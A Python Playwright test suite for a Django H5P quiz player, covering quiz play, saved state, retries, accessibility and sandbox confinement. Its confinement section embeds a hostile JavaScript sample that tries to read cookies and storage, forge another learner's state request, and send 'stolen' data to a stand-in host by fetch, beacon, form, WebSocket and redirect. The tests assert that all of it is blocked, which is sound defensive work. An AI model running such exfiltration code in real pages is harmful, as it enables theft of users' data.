"""The player in a real browser: a package is imported, played in the sandbox, tracked, and confined."""

import http.server
import json
import re
import threading

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from courses.h5p import builder, player, services
from courses.h5p.models import Attempt, Content, State, Statement
from tests.courses.h5p.packages import library, package, reported

from .playing import CONTEXT, Player, as_file, import_, import_demo, problems

pytestmark = pytest.mark.usefixtures("own_storage")
RIGHT = [[1], [1, 2], [1], [0], [0, 2, 3]]  # of the demo quiz


@pytest.fixture
def quiz(db) -> Content:
    return import_demo("zugang-grundlagen-quiz")


class Quiz(Player):
    """The demo quiz."""

    def choose(self, positions: list[int]) -> None:
        for position in positions:
            self.inside.locator(f'input[value="{position}"]').check()

    def answer(self, choices: list[list[int]]) -> None:
        """Answer the first questions, each checked and left; the last one ends on the result."""
        for number, positions in enumerate(choices, start=1):
            self.choose(positions)
            self.press("Antwort prüfen")
            self.press("Zum Ergebnis" if number == len(RIGHT) else "Nächste Frage")


@pytest.fixture
def playing(page, live_server, quiz) -> Quiz:
    return Quiz(page, live_server, quiz)


def heading(playing: Player):
    return playing.inside.get_by_role("heading", name="Ihr Ergebnis")


def test_a_learner_plays_the_quiz_and_result_statements_and_state_are_stored(playing):
    playing.open()
    expect(playing.inside.get_by_text("Frage 1 von 5")).to_be_visible()
    playing.answer(RIGHT)

    expect(heading(playing)).to_be_focused()
    expect(playing.inside.get_by_text("Richtig beantwortete Fragen: 5 von 5")).to_be_visible()
    playing.wait_for(lambda: Attempt.objects.filter(finished_at__isnull=False).exists())
    attempt = Attempt.objects.get()
    assert (attempt.user_key, attempt.context, attempt.number) == ("learner", CONTEXT, 1)
    assert (attempt.score, attempt.max_score) == (5, 5)
    assert [(report["context"], report["score"], report["attempt_id"]) for report in reported] == [
        (CONTEXT, 5, attempt.pk)
    ]
    verbs = [verb.rsplit("/", 1)[-1] for verb in Statement.objects.values_list("verb", flat=True)]
    assert (verbs[0], verbs.count("answered"), verbs.count("completed")) == ("attempted", 5, 1)
    completed = Statement.objects.get(verb__endswith="completed").raw
    assert completed["result"]["score"] == {"min": 0, "max": 5, "raw": 5, "scaled": 1}
    assert completed["actor"]["account"]["name"] == "learner"
    answered = Statement.objects.filter(verb__endswith="answered").order_by("pk")[1].raw
    assert answered["result"]["response"] == "1[,]2"
    assert answered["object"]["definition"]["correctResponsesPattern"] == ["1[,]2"]
    expect(playing.page.get_by_text("Ihr Ergebnis wurde gespeichert.").or_(saved_in_english(playing))).to_be_visible()
    assert playing.errors == []


def saved_in_english(playing: Player):
    return playing.page.get_by_text("Your result has been saved.")


def test_a_reload_brings_the_learner_back_and_another_learner_sees_nothing(playing):
    playing.open()
    playing.answer([[0], [1, 2]])
    playing.choose([2])
    playing.wait_for(lambda: State.objects.exists() and '"current":2' in State.objects.get().data)
    playing.wait_for(lambda: json.loads(State.objects.get().data)["answers"][2]["chosen"] == [2])

    playing.page.reload()
    expect(playing.inside.get_by_text("Frage 3 von 5")).to_be_visible()
    expect(playing.inside.locator('input[value="2"]')).to_be_checked()

    playing.open(user_key="somebody else")
    expect(playing.inside.get_by_text("Frage 1 von 5")).to_be_visible()
    expect(playing.inside.locator("input:checked")).to_have_count(0)
    assert not State.objects.filter(user_key="somebody else").exists()
    assert playing.errors == []


def test_the_state_is_saved_when_the_learner_leaves_at_once(playing):
    playing.open()
    playing.choose([1])
    playing.page.goto("about:blank")
    playing.wait_for(lambda: State.objects.exists())
    assert json.loads(State.objects.get().data)["answers"][0]["chosen"] == [1]


def test_a_second_go_is_a_second_attempt_and_the_first_one_stays(playing):
    playing.open()
    playing.answer([[0], *RIGHT[1:]])
    playing.wait_for(lambda: Attempt.objects.filter(finished_at__isnull=False).count() == 1)
    playing.page.reload()
    expect(heading(playing)).to_be_visible()
    playing.press("Noch einmal versuchen")
    expect(playing.inside.locator("legend")).to_be_focused()
    playing.answer(RIGHT)
    playing.wait_for(lambda: Attempt.objects.filter(finished_at__isnull=False).count() == 2)
    assert list(Attempt.objects.order_by("number").values_list("number", "score")) == [(1, 4), (2, 5)]


def test_the_quiz_can_be_done_with_the_keyboard_alone(playing):
    page = playing.page
    playing.open()
    expect(playing.inside.get_by_text("Frage 1 von 5")).to_be_visible()
    playing.settle()
    page.keyboard.press("Tab")  # into the frame, to the radio buttons
    expect(playing.inside.locator('input[value="0"]')).to_be_focused()
    page.keyboard.press("ArrowDown")
    expect(playing.inside.locator('input[value="1"]')).to_be_checked()
    page.keyboard.press("Enter")
    expect(playing.inside.locator(".academy__verdict")).to_be_focused()
    expect(playing.inside.get_by_text("Das ist richtig.")).to_be_visible()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(playing.inside.locator("legend")).to_be_focused()
    expect(playing.inside.get_by_text("Frage 2 von 5")).to_be_visible()


def test_the_quiz_asks_for_an_answer_before_it_checks(playing):
    playing.open()
    playing.press("Antwort prüfen")
    expect(playing.inside.get_by_role("status")).to_have_text("Bitte wählen Sie zuerst eine Antwort.")
    playing.choose([0])
    expect(playing.inside.get_by_role("status")).to_have_text("")


@pytest.mark.parametrize("width", [1280, 320])
def test_the_quiz_is_accessible_in_every_view(playing, width):
    playing.page.set_viewport_size({"width": width, "height": 800})
    playing.open()
    expect(playing.inside.get_by_text("Frage 1 von 5")).to_be_visible()
    assert problems(playing) == []
    playing.choose([0])
    playing.press("Antwort prüfen")
    assert problems(playing) == []
    playing.press("Nächste Frage")
    playing.answer(RIGHT[1:4])
    playing.choose(RIGHT[4])
    playing.press("Antwort prüfen")
    playing.press("Zum Ergebnis")
    assert problems(playing) == []
    playing.press("Alle Antworten zeigen")
    assert problems(playing) == []


def test_a_result_is_sent_again_when_the_server_was_away(playing):
    calls = []

    def fail_twice(route):
        calls.append(route.request.url)
        route.fulfill(status=503) if len(calls) <= 1 else route.continue_()

    playing.page.route(re.compile("/h5p/finished/"), fail_twice)
    playing.page.add_init_script("addEventListener('h5p:finished', () => { window.finished = true; })")
    playing.open()
    playing.answer(RIGHT)
    expect(playing.page.get_by_role("status")).to_contain_text(re.compile("could not be saved|noch nicht gespeichert"))
    playing.wait_for(lambda: Attempt.objects.filter(score=5).exists())
    expect(playing.page.get_by_role("status")).to_contain_text(re.compile("has been saved|wurde gespeichert"))
    assert playing.page.evaluate("window.finished") is True
    assert Attempt.objects.count() == 1
    assert len(set(calls)) == 1


def test_the_learner_is_told_when_the_content_changed(playing, quiz):
    playing.open()
    playing.answer([[1]])
    playing.wait_for(lambda: State.objects.exists() and '"current":1' in State.objects.get().data)
    playing.page.goto("about:blank")
    playing.page.wait_for_timeout(300)
    source = builder.DEMO_CONTENTS / "zugang-grundlagen-quiz"
    content = json.loads((source / "content/content.json").read_text(encoding="utf-8"))
    del content["questions"][0]
    main = json.loads((source / "h5p.json").read_text(encoding="utf-8"))
    file = as_file(builder.build(main, {"content/content.json": content}))
    services.import_package(
        file=file, uploaded_by_key="", may_install_libraries=False, at=timezone.now(), uuid=quiz.uuid
    )

    playing.open()

    expect(playing.inside.get_by_text("Dieser Inhalt wurde geändert")).to_be_visible()
    playing.inside.get_by_role("button", name="OK").click()
    expect(playing.inside.get_by_text("Frage 1 von 4")).to_be_visible()
    assert playing.errors == []


# --- confinement ---

EVIL = """
var Evil = window.Evil || {};
Evil.Content = function () {};
Evil.Content.prototype.attach = async function ($container) {
  const results = {};
  async function attempt(name, action) {
    try { results[name] = String(await action()).slice(0, 200); }
    catch (error) { results[name] = "refused: " + error.name; }
  }
  function load(tag, address) {
    return new Promise((yes, no) => {
      const node = document.createElement(tag);
      node.onload = () => yes("loaded");
      node.onerror = () => no(new Error());
      node.src = address;
      document.head.append(node);
    });
  }
  const state = H5PIntegration.ajax.contentUserData.replace(":contentId", "1").replace(":dataType", "state");
  const forged = state.replace(":subContentId", "0").replace(/t=.*/, "t=forged");
  await attempt("another learner's state", () => fetch(forged).then((response) => response.status));
  await attempt("shimmed cookie", () => document.cookie);
  delete document.cookie;
  delete window.localStorage;
  delete window.sessionStorage;
  await attempt("cookie", () => document.cookie);
  await attempt("set cookie", () => { document.cookie = "evil=1"; return document.cookie; });
  await attempt("local storage", () => window.localStorage.length);
  await attempt("session storage", () => window.sessionStorage.length);
  await attempt("database", () => indexedDB.open("x").readyState);
  await attempt("parent page", () => window.parent.document.title);
  await attempt("top page", () => { window.top.location.href = "HOST/top"; return "left"; });
  await attempt("same site", () => fetch("/static/h5p/nowhere.html", { credentials: "include" }).then((r) => r.status));
  await attempt("other host", () => fetch("HOST/fetch?stolen", { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon("HOST/beacon", "stolen"));
  await attempt("image", () => load("img", "HOST/image.png"));
  await attempt("script", () => load("script", "HOST/script.js"));
  await attempt("frame", () => load("iframe", "HOST/frame").then(() => "blocked"));
  await attempt("inline script", () => {
    const script = document.createElement("script");
    script.textContent = "window.inlineRan = true";
    document.head.append(script);
    return window.inlineRan === true;
  });
  await attempt("form", () => {
    const form = document.createElement("form");
    form.action = "HOST/form";
    form.method = "post";
    document.body.append(form);
    form.submit();
    return "submitted";
  });
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket("HOST/socket".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error());
  }));
  window.parent.postMessage({ results }, "*");
  setTimeout(() => { location.href = "HOST/self?stolen"; }, 50);
};
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    """A host that takes everything and remembers it."""

    def _take(self):
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = do_OPTIONS = _take

    def log_message(self, *args):
        pass


@pytest.fixture
def other_host():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_an_evil_library_reaches_neither_cookie_parent_storage_nor_another_host(page, live_server, db, other_host):
    host = f"http://127.0.0.1:{other_host.server_port}"
    script = EVIL.replace("HOST", host).encode()
    content = import_(package(library("Evil.Content", files={"main.js": script}), main="Evil.Content 1.0"))
    page.context.add_cookies([{"name": "secret", "value": "x", "url": live_server.url, "sameSite": "Lax"}])
    page.add_init_script(
        "addEventListener('message', (event) => { if (event.data.results) window.results = event.data.results; })"
    )
    sent = []
    page.on("request", lambda request: sent.append(request) if "/h5p/bundles/" in request.url else None)
    playing = Player(page, live_server, content)
    playing.open()
    playing.wait_for(lambda: page.evaluate("window.results !== undefined"))
    page.wait_for_timeout(500)  # for the last attempt, which leads the frame away

    results = page.evaluate("window.results")
    assert results.pop("shimmed cookie") == ""
    assert results.pop("inline script") == "false"
    assert results.pop("another learner's state") == "403"
    assert results.pop("frame") == "blocked"
    assert results.pop("form") == "submitted"  # the call returns; nothing is sent
    assert results.pop("beacon") in ("true", "false", "refused: SecurityError")
    assert {name: value for name, value in results.items() if not value.startswith("refused: ")} == {}
    for name in ("cookie", "set cookie", "database", "parent page"):
        assert results[name] == "refused: SecurityError", name
    assert other_host.hits == []
    assert page.url == f"{live_server.url}/test-page/"
    assert [cookie["name"] for cookie in page.context.cookies()] == ["secret"]
    assert sent
    assert all("cookie" not in request.all_headers() for request in sent)


def test_the_player_opened_on_its_own_is_confined_too(page, live_server, db):
    script = b"var Evil = {Content: function () {}}; Evil.Content.prototype.attach = function () {" + (
        b"delete document.cookie; try { document.title = 'open: ' + document.cookie; }"
        b" catch (error) { document.title = error.name; } };"
    )
    content = import_(package(library("Evil.Content", files={"main.js": script}), main="Evil.Content 1.0"))
    page.context.add_cookies([{"name": "secret", "value": "x", "url": live_server.url}])
    page.goto(live_server.url + player.embed_url(content=content, user_key="u", context=""))
    expect(page).to_have_title("SecurityError")
